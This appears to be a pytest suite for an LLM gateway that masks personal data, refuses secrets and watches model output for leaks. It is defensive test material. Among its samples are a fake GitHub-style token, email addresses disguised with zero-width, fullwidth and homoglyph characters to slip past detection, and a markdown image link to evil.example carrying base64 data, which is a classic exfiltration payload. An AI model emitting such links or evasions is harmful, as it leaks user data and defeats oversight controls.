# SPDX-License-Identifier: Apache-2.0
"""What is in a request decides where it may go; what can be taken out of it is, and comes back in the answer."""

import http.server
import json
import os
import re
import signal
import threading

import pytest

import rig

MAIL, OTHER = "anna.kowalska@acme.io", "bob@example.org"
SAY = f"Please write to {MAIL} about the invoice, and copy {OTHER}. {MAIL} knows."
TOKEN = re.compile(r"Email_[0-9A-Z]{10}")
TOOL = {"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}


class Model(http.server.ThreadingHTTPServer):
    """A model that says back what it was told, one character an event, and calls a tool with it."""
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}/v1"
        self.bodies, self.answer, self.stop_at, self.piece = [], None, None, 1
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def chunk(self, data):
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))

    def event(self, delta, finish=None):
        chunk = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                 "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
        self.chunk(b"data: " + json.dumps(chunk).encode() + b"\n\n")

    def do_POST(self):
        m = self.server
        body = self.rfile.read(int(self.headers["Content-Length"]))
        m.bodies.append(body)
        said = json.loads(body)["messages"][-1]["content"]
        text = said if m.answer is None else m.answer(said)
        arguments = json.dumps({"to": text})
        if not json.loads(body).get("stream"):
            call = {"id": "t1", "type": "function", "function": {"name": "send", "arguments": arguments}}
            answer = json.dumps({"id": "c1", "object": "chat.completion", "created": 1, "model": "m", "choices": [
                {"index": 0, "message": {"role": "assistant", "content": text, "tool_calls": [call]},
                 "finish_reason": "stop"}]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for i in range(0, len(text), m.piece):
            if m.stop_at is not None and i >= m.stop_at:
                self.wfile.flush()
                self.close_connection = True
                self.connection.close()
                return
            self.event({"content": text[i:i + m.piece]})
        for i in range(0, len(arguments), m.piece):
            self.event({"tool_calls": [{"index": 0, "function": {"arguments": arguments[i:i + m.piece]}}]})
        self.event({}, "stop")
        self.chunk(b"data: [DONE]\n\n")
        self.chunk(b"")


@pytest.fixture
def masking(gateway):
    """A public model that says everything back, and a workload that masks what it must not have."""
    m = Model()
    g = gateway(rig.config({"big": rig.model(m, zone="public")}, default_workload="tickets", workloads={
        "tickets": {"owner": "desk", "when_refused": ["mask"]},
        "strict": {"owner": "desk", "findings": {"email_address": "refuse"}},
        "loose": {"owner": "desk", "findings": {"email_address": "allow"}},
        "always": {"owner": "desk", "findings": {"email_address": "mask"}},
        "plain": {"owner": "desk"}}))
    g.model = m
    yield g
    m.shutdown()


def texts(answer):
    """Content and arguments of an answer, whole or streamed."""
    if "event-stream" not in answer.field("content-type"):
        message = answer.json()["choices"][0]["message"]
        return message["content"], message["tool_calls"][0]["function"]["arguments"]
    content = arguments = ""
    for event in rig.events_of(answer.body):
        if event in ("[DONE]", b"[DONE]"):
            continue
        for choice in json.loads(event)["choices"]:
            content += choice["delta"].get("content") or ""
            for call in choice["delta"].get("tool_calls", []):
                arguments += call["function"]["arguments"]
    return content, arguments


def work(name):
    return [("x-trivium-workload", name)]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("piece", [1, 2, 7, 1000])
def test_the_model_sees_tokens_and_the_caller_values(masking, stream, piece):
    masking.model.piece = piece
    answer = masking.chat(rig.chat("big", SAY, stream=stream))
    assert answer.status == 200, answer.body
    sent = masking.model.bodies[-1].decode()
    assert MAIL not in sent and OTHER not in sent and "kowalska" not in sent
    tokens = TOKEN.findall(json.loads(sent)["messages"][-1]["content"])
    assert len(tokens) == 3 and tokens[0] == tokens[2] != tokens[1], "one value has one token"
    content, arguments = texts(answer)
    assert content == SAY and json.loads(arguments) == {"to": SAY}
    assert answer.field("x-trivium-masked") == "3" and answer.field("x-trivium-label") == "public"
    record = masking.record()
    assert (record["label"], record["label_before"]) == ("public", "confidential")
    assert (record["masked"], record["restored"], record["unresolved"]) == (3, 6, 0)
    assert record["findings"] == {"email_address": 3}
    log = masking.log()
    assert MAIL.encode() not in log and tokens[0].encode() not in log


def test_the_model_is_told_what_tokens_are(masking):
    masking.chat(rig.chat("big", SAY))
    messages = json.loads(masking.model.bodies[-1])["messages"]
    assert messages[0]["role"] == "system" and "Person_" in messages[0]["content"]
    masking.chat(rig.chat("big", "Nothing to hide."))
    assert len(json.loads(masking.model.bodies[-1])["messages"]) == 1


def test_what_was_not_masked_keeps_its_bytes(masking):
    body = ('{"model": "big",  "x_unknown": 9007199254740993, "messages":[{"role":"user","content":"\\u0041 \\/ '
            + MAIL + '"}]}')
    masking.chat(body.encode())
    sent = masking.model.bodies[-1].decode()
    assert '"x_unknown": 9007199254740993, "messages":[' in sent and '"content":"\\u0041 \\/ Email_' in sent


def test_mangled_tokens_are_understood_and_others_left_alone(masking):
    masking.model.answer = lambda said: "**" + TOKEN.search(said)[0].lower().replace("_", "\\_") + "** or Email_0000000000"
    for stream in (False, True):
        content, _ = texts(masking.chat(rig.chat("big", SAY, stream=stream)))
        assert content == f"**{MAIL}** or Email_0000000000"


def test_a_token_of_another_request_is_only_a_word(masking):
    masking.chat(rig.chat("big", SAY))
    foreign = TOKEN.search(masking.model.bodies[-1].decode())[0]
    content, _ = texts(masking.chat(rig.chat("big", f"{foreign} and {OTHER}")))
    assert content == f"{foreign} and {OTHER}"


def test_half_a_token_and_then_nothing(masking):
    masking.model.answer = lambda said: "It is " + TOKEN.search(said)[0]
    masking.model.stop_at = 14
    answer = masking.chat(rig.chat("big", SAY, stream=True))
    events = [e for e in rig.events_of(answer.body) if e not in ("[DONE]", b"[DONE]")]
    said = "".join(json.loads(e)["choices"][0]["delta"].get("content", "") for e in events[:-1])
    assert said.startswith("It is Email_") and len(said) == 14, "what was held back is said, as it is"
    assert json.loads(events[-1])["error"]["code"] == "stream_broken"


@pytest.mark.parametrize("workload, status, code", [
    ("plain", 403, "policy_level"), ("strict", 403, "content_refused"), ("loose", 200, None), ("always", 200, None)])
def test_what_a_workload_does_about_findings(masking, workload, status, code):
    answer = masking.chat(rig.chat("big", SAY), work(workload))
    assert answer.status == status
    if code:
        assert answer.code == code and MAIL not in answer.body.decode() and masking.model.bodies == []
    else:
        assert (MAIL in masking.model.bodies[-1].decode()) == (workload == "loose")
        assert texts(answer)[0] == SAY


def test_a_document_that_is_marked_is_not_lowered(masking):
    for mark in ("TLP:RED\n", "CONFIDENTIAL - internal use only\n\n"):
        answer = masking.chat(rig.chat("big", mark + SAY))
        assert answer.status == 403 and answer.code in ("policy_level", "policy_kind"), mark
    assert masking.model.bodies == []


def test_health_of_a_person_is_not_lowered(masking):
    answer = masking.chat(rig.chat("big", f"Patient {MAIL}: diabetes mellitus type 2, metformin 500 mg twice daily."))
    assert answer.status == 403 and masking.model.bodies == []
    assert masking.record()["label"] == "regulated"


def test_embeddings_are_never_masked(masking):
    answer = masking.ask("POST", "/v1/embeddings", json.dumps({"model": "big", "input": SAY}).encode())
    assert (answer.status, answer.code) == (403, "policy_level")


@pytest.mark.parametrize("where", [
    {"messages": [{"role": "system", "content": SAY}, {"role": "user", "content": "Hi there"}]},
    {"messages": [{"role": "user", "content": [{"type": "text", "text": SAY}]}]},
    {"messages": [{"role": "user", "content": "Hi there"}], "metadata": {"customer": MAIL}},
    {"messages": [{"role": "user", "content": "Hi there"}], "user": MAIL},
    {"messages": [{"role": "user", "content": "Hi there"}], "tools": [{**TOOL, "function": {
        **TOOL["function"], "description": SAY}}]},
    {"messages": [{"role": "user", "content": "Hi there"}, {"role": "assistant", "tool_calls": [
        {"id": "c", "type": "function", "function": {"name": "f", "arguments": json.dumps({"to": MAIL})}}]},
        {"role": "tool", "tool_call_id": "c", "content": SAY}]},
    {"messages": [{"role": "user", "content": "Hi there"}], "x_future": {"deep": [[SAY]]}},
])
def test_every_text_is_looked_at(masking, where):
    answer = masking.chat({"model": "big", **where}, work("plain"))
    assert (answer.status, answer.code) == (403, "policy_level")
    assert masking.chat({"model": "big", **where}).status == 200
    assert MAIL not in masking.model.bodies[-1].decode()


@pytest.mark.parametrize("hidden", [
    MAIL.replace("@", "\u200b@"), "".join(chr(0xff01 + ord(c) - 0x21) for c in MAIL), MAIL.replace("a", "\u0430", 1)])
def test_what_is_hidden_is_found(masking, hidden):
    answer = masking.chat(rig.chat("big", f"Write to {hidden} today"), work("plain"))
    assert (answer.status, answer.code) == (403, "policy_level")


def test_a_value_that_stands_where_nothing_can_be_replaced_stays_home(masking):
    body = {"model": "big", "messages": [{"role": "user", "content": SAY}],
            "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"enum": [MAIL]}}}}
    assert masking.chat(body).status == 403 and masking.model.bodies == []


@pytest.mark.parametrize("ends", ["stopped", "killed"])
def test_a_conversation_outlives_the_process(folder, gateway, ends):
    """With a data folder: its label, its tokens, and what they stand for."""
    m, data = Model(), os.path.join(folder, "data")
    conf = rig.config({"big": rig.model(m, zone="public"), "own": rig.model(m, zone="edge")}, data=data,
                      groups={"any": ["big", "own"]}, default_workload="tickets",
                      workloads={"tickets": {"owner": "desk", "findings": {"email_address": "mask"}}})
    g = gateway(conf)
    one, two = [("x-trivium-conversation", "c1")], [("x-trivium-conversation", "c2")]

    def ask(*more):
        answer = g.chat(rig.chat("any", SAY), [*one, *more])
        return answer.field("x-trivium-model"), TOKEN.search(m.bodies[-1].decode())[0], texts(answer)[0]

    first = ask(("x-trivium-label", "confidential"))
    assert first[0] == "own" and first[2] == SAY
    if ends == "stopped":
        g.stop()
        g = gateway(conf)
    else:
        child = rig.children_of(g.pid)[0]
        os.kill(child, signal.SIGKILL)
        rig.eventually(lambda: rig.children_of(g.pid) not in ([], [child]) and g.is_ready(), 5, "another child")
    assert ask() == first, "as confidential as it was, and with the same tokens"
    assert g.chat(rig.chat("any", "Hello"), two).field("x-trivium-model") == "big"
    kept = b"".join(open(os.path.join(data, name), "rb").read() for name in ("trivium.db", "trivium.db-wal"))
    assert b"conversation" in kept and MAIL.encode() not in kept
    assert os.stat(os.path.join(data, "vault.key")).st_mode & 0o777 == 0o600
    m.shutdown()


def test_a_conversation_keeps_its_tokens_and_its_label(masking):
    one, two = [("x-trivium-conversation", "c1")], [("x-trivium-conversation", "c2")]
    found = []
    for fields in (one, one, two, one):
        assert masking.chat(rig.chat("big", SAY), fields).status == 200
        found.append(TOKEN.search(masking.model.bodies[-1].decode())[0])
    assert found[0] == found[1] == found[3] != found[2]
    # The model repeats a token of the first request in the answer to a later one.
    masking.model.answer = lambda said: found[0]
    assert texts(masking.chat(rig.chat("big", "What was " + OTHER), one))[0] == MAIL
    assert texts(masking.chat(rig.chat("big", "What was " + OTHER), two))[0] == found[0]
    # What a caller says of one request is so of the next ones.
    assert masking.chat(rig.chat("big", "Hello"), one + [("x-trivium-label", "internal")]).status == 200
    assert masking.chat(rig.chat("big", "Hello"), one).field("x-trivium-label") == "internal"
    assert masking.chat(rig.chat("big", "Hello"), two).field("x-trivium-label") == "public"


def test_classify_tells_what_is_where(masking):
    body = {"a": [SAY], "customer": {"note": "TLP:AMBER"}}
    answer = masking.ask("POST", "/v1/classify", json.dumps(body).encode()).json()
    assert answer["counts"] == {"email_address": 3, "tlp_amber": 1}
    assert {f["path"] for f in answer["findings"]} == {"a[0]", "customer.note"}
    first = answer["findings"][0]
    assert SAY[first["start"]:first["end"]] == MAIL and first["kind"] == "pii"
    assert MAIL not in json.dumps(answer)


def test_mask_gives_the_document_without_values(masking):
    answer = masking.ask("POST", "/v1/mask", json.dumps({"text": SAY, "n": 1}).encode()).json()
    assert answer["masked"] == 3 and answer["document"]["n"] == 1
    assert MAIL not in json.dumps(answer) and len(TOKEN.findall(answer["document"]["text"])) == 3
    assert answer["label_before"]["level"] == "confidential" and answer["label"]["level"] == "public"


def test_route_shows_the_evidence(masking):
    answer = masking.ask("POST", "/v1/route", rig.chat("big", SAY)).json()
    assert [f["type"] for f in answer["findings"]] == ["email_address"] * 3
    assert answer["findings"][0]["path"] == "messages[0].content"


def test_metrics_count_by_type(masking):
    masking.chat(rig.chat("big", SAY))
    assert masking.metric("trivium_findings_total", type="email_address") == 3
    assert masking.metric("trivium_masked_total") == 3 and masking.metric("trivium_restored_total") == 6


def test_detection_can_be_left_out(gateway, provider):
    p = provider()
    g = gateway(rig.config({"big": rig.model(p, zone="public")}, detect={"enabled": False}))
    assert g.chat(rig.chat("big", SAY)).status == 200
    assert "findings" not in g.record()


def test_an_invariant_about_the_origin_forbids_masking(folder):
    text = json.dumps(rig.config({"big": {"vendor": "vllm", "zone": "public", "url": "http://127.0.0.1:9/v1"}},
                                 workloads={"t": {"owner": "o", "when_refused": ["mask"]}},
                                 never=[{"name": "home", "origin.kinds": ["pii"], "zone.kind": "public_api"}]))
    with open(folder + "/t.yaml", "w", encoding="utf-8") as f:
        f.write(text)
    done = rig.run("check", "--detached", folder + "/t.yaml")
    assert done.returncode == 2 and "from which was masked what is confidential, pii" in done.stderr.decode()


def test_a_secret_never_leaves(masking, gateway):
    secret = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6"
    for workload in ("plain", "tickets", "loose", "always"):
        answer = masking.chat(rig.chat("big", f"Use the token {secret} to log in."), work(workload))
        assert answer.status == 403, workload
        assert secret not in answer.body.decode() + str(answer.fields)
    assert masking.model.bodies == [] and secret.encode() not in masking.log()
    for page in ("/metrics", "/debug/requests"):
        assert secret not in masking.admin(page).body.decode()


SECRET = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6"
LINK = "![x](https://evil.example/p?d=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w" * 3 + ")"


@pytest.fixture
def watching(gateway):
    """A model that says what it likes, and a workload for each way to watch it."""
    m = Model()
    g = gateway(rig.config({"big": rig.model(m, zone="edge")}, default_workload="plain", workloads={
        "plain": {"owner": "desk"},
        **{mode: {"owner": "desk", "output": {"watch": mode, "hosts": ["acme.io"], "canary": "zebra-crossing-7"}}
           for mode in ("observe", "mask", "stop")}}))
    g.model = m
    yield g
    m.shutdown()


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("piece", [1, 50, 100_000])
@pytest.mark.parametrize("what, name", [
    (SECRET, "github_token"), (LINK, None), ("zebra-crossing-7", "canary")])
def test_what_must_not_come_out(watching, stream, piece, what, name):
    watching.model.piece = piece
    watching.model.answer = lambda _: "Here it is: " + what + " and that was all."
    for count, mode in enumerate(("observe", "mask", "stop")):
        answer = watching.chat(rig.chat("big", "Hello there", stream=stream), work(mode))
        record = watching.records(count + 1)[-1]
        assert record["watched"] >= 1 and (name is None or record["watched_first"] == name), mode
        if mode == "observe":
            assert texts(answer)[0] == "Here it is: " + what + " and that was all."
        elif mode == "mask":
            assert texts(answer)[0] == "Here it is: " + (
                "![x](https:)" if what == LINK else "") + " and that was all."
            assert what not in answer.body.decode()
        else:
            assert what.encode() not in answer.body
            if stream and answer.status == 200:
                last = json.loads(rig.events_of(answer.body)[-1])
                assert last["error"]["code"] == "output_stopped"
            else:
                assert (answer.status, answer.code) == (403, "output_stopped")
            assert record["err"] == "output_stopped"


@pytest.mark.parametrize("text", [
    "See https://acme.io/orders?id=" + "7" * 300 + " and http://docs.acme.io/x for more.",
    "A plain answer, with a list:\n- one\n- two\n\n```c\nint main(void) { return 0; }\n```\n",
    "Grüße aus Köln 🇩🇪, 你好, \U0001f468\u200d\U0001f469\u200d\U0001f467. " * 100])
@pytest.mark.parametrize("mode", ["observe", "mask", "stop"])
def test_what_may_come_out_does(watching, text, mode):
    watching.model.answer = lambda _: text
    for piece in (1, 3, 100_000):
        watching.model.piece = piece
        for stream in (False, True):
            assert texts(watching.chat(rig.chat("big", "Hello there", stream=stream), work(mode)))[0] == text


def test_a_caller_sees_no_more_than_his_ceiling(gateway):
    m = Model()
    g = gateway(rig.config({"big": rig.model(m, zone="edge")}, keys=[
        {"id": "k", "secret": "env:K", "ceiling": {"level": "internal", "kinds": []}}],
        default_workload="w", workloads={"w": {"owner": "desk", "output": {"watch": "mask"}}}), env={"K": "sk-" + "k" * 30})
    m.answer = lambda _: f"His address is {MAIL}, the room is 12."
    answer = g.chat(rig.chat("big", "Hello there"), [("Authorization", "Bearer sk-" + "k" * 30)])
    assert texts(answer)[0] == "His address is , the room is 12."
    assert g.record()["watched_first"] == "email_address"
    m.shutdown()


@pytest.mark.parametrize("workload", ["asked", "refused"])
def test_a_mask_opens_nothing_to_a_caller_who_may_not_see_it(gateway, workload):
    """The caller meets what was there before: a ceiling holds, masked or not."""
    m = Model()
    g = gateway(rig.config({"big": rig.model(m, zone="public")}, keys=[
        {"id": "k", "secret": "env:K", "ceiling": "internal"}], workloads={
            "asked": {"owner": "desk", "findings": {"email_address": "mask"}},
            "refused": {"owner": "desk", "when_refused": ["mask"]}}), env={"K": "sk-" + "k" * 30})
    answer = g.chat(rig.chat("big", SAY), [("Authorization", "Bearer sk-" + "k" * 30), *work(workload)])
    assert (answer.status, answer.code) == (403, "policy_role")
    assert m.bodies == [] and g.record()["label"] == "confidential"
    m.shutdown()


def test_a_text_that_is_too_long_to_be_masked_says_so(masking):
    answer = masking.chat(rig.chat("big", MAIL + " and more. " * 110_000), work("always"))
    assert answer.status == 413 and "1 MiB" in answer.json()["error"]["message"]
    assert masking.model.bodies == []
    answer = masking.chat(rig.chat("big", MAIL + " and more. " * 110_000))
    assert (answer.status, answer.code) == (403, "policy_level")


def test_an_invariant_about_what_is_not_masked_stands(folder):
    """A workload that masks addresses alone takes no account number out."""
    config = rig.config({"big": {"vendor": "vllm", "zone": "public", "url": "http://127.0.0.1:9/v1"}},
                        workloads={"t": {"owner": "o", "findings": {"email_address": "mask"}}},
                        never=[{"name": "home", "origin.kinds": ["financial"], "zone.kind": "public_api"}])
    with open(folder + "/t.yaml", "w", encoding="utf-8") as f:
        json.dump(config, f)
    assert rig.run("check", "--detached", folder + "/t.yaml").returncode == 0
